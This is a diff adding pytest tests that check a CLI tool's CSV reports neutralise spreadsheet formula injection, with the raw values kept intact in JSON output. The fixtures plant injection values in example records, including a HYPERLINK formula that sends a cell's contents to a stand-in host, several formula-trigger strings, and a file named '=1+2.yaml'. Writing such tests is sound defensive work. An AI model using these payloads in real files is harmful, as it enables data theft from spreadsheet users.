@@ -6,6 +6,7 @@ Each test runs the real CLI; the docstrings say what each showed before."""
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -149,3 +150,81 @@ def test_six_runs_writing_the_same_output_at_once_one_wins_the_others_refuse(tmp
 
     assert zipfile.ZipFile(target).testzip() is None
     assert sorted(p.name for p in tmp_path.iterdir()) == ["cta.docx"]
+
+
+# (c) CSV cells a spreadsheet would run
+
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+
+
+def _office_with_formulas(tmp_path: Path) -> Path:
+    """The examples, with text a spreadsheet would run in a field each CSV report shows."""
+    import shutil
+
+    office = tmp_path / "office"
+    shutil.copytree(EXAMPLES, office)
+
+    def swap(name: str, old: str, new: str) -> None:
+        path = office / name
+        text = path.read_text(encoding="utf-8")
+        assert old in text, (name, old)
+        path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+    swap("forecast.yaml", "Two 45 m coastal patrol boats with training and support", f"'{FORMULA}'")
+    swap("eum.yaml", "description: Javelin command launch unit", "description: -2+3")
+    swap("eum.yaml", "serials: [CLU-10231,", 'serials: ["@SUM(1)",')
+    swap("cases/XS-B-ZAD.yaml", "id: XS-B-ZAD", 'id: "+1+2"')
+    swap("graduates/prominent.yaml", "surname: Vaher", 'surname: "\\t=1+2"')
+    swap("lor-complete.yaml", "id: XS-LOR-2026-014", 'id: "\\r=0+XS-LOR-2026-014"')
+    (office / "=1+2.yaml").write_text("kind: nothing\n", encoding="utf-8")
+    return office
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_every_csv_neutralises_cells_a_spreadsheet_would_run_and_json_keeps_them(sco, tmp_path, monkeypatch):
+    """`=HYPERLINK(...)` as a forecast description, `-2+3` as an EUM item, `@SUM(1)` as a serial, `+1+2` as
+    a case, `=1+2` as a surname, `=0+...` as an LOR (the tab and CR before them are trimmed as every text
+    is; `test_the_one_csv_writer` covers them): each CSV wrote them as they were, so a spreadsheet opening
+    the report ran them. Now every such cell starts with a single quote; JSON has the exact text."""
+    office = _office_with_formulas(tmp_path)
+    monkeypatch.chdir(office)
+    runs = {
+        "check": (["check", "=1+2.yaml", "lor-complete.yaml", "--as-of", AS_OF], ["=1+2.yaml"]),
+        "javits": (["javits", "report", ".", "--as-of", AS_OF, "--year", "2027"], [FORMULA]),
+        "forecast": (["forecast", "report", ".", "--as-of", AS_OF, "--fy", "2028"], [FORMULA]),
+        "case": (["case", "status", ".", "--as-of", AS_OF], ["+1+2"]),
+        "prominence": (["training", "prominence", "graduates"], ["=1+2, Kristjan"]),
+        "route": (["lor", "route", "lor-complete.yaml", "--as-of", AS_OF], ["=0+XS-LOR-2026-014"]),
+    }
+    for name, (args, raw_values) in runs.items():
+        csv_out = sco(*args, "--format", "csv")
+        assert csv_out.exit_code in (0, 1), (name, csv_out.stderr)
+        cells = _cells(csv_out.stdout)
+        dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert dangerous == [], name
+        for raw in raw_values:
+            assert "'" + raw in cells, (name, raw)
+        json_out = sco(*args, "--format", "json")
+        for raw in raw_values:
+            assert json.dumps(raw)[1:-1] in json_out.stdout, (name, raw)
+    sheet = office / "sheet.csv"
+    assert sco("eum", "inventory", "eum.yaml", "-o", sheet, "--as-of", AS_OF).exit_code == 0
+    cells = _cells(sheet.read_text(encoding="utf-8"))
+    assert "'-2+3" in cells and "'@SUM(1)" in cells
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+
+
+def test_the_one_csv_writer_quotes_text_only_and_the_rule_is_the_documented_one():
+    """A negative amount is a number, not text a spreadsheet runs; only text cells get the quote."""
+    from sco_cli.core.csv_table import csv_text
+
+    row = [-5, "-5", "a=b", False, "\t=1", "\r=1", "@x", "+1", None]
+    assert csv_text("abcdefghi", [row]) == "a,b,c,d,e,f,g,h,i\n-5,'-5,a=b,false,'\t=1,'\r=1,'@x,'+1,\n"
+    documents = (Path(__file__).resolve().parents[2] / "docs" / "commands.md").read_text(encoding="utf-8")
+    assert "single quote" in documents and "`=`, `+`, `-`, `@`" in documents
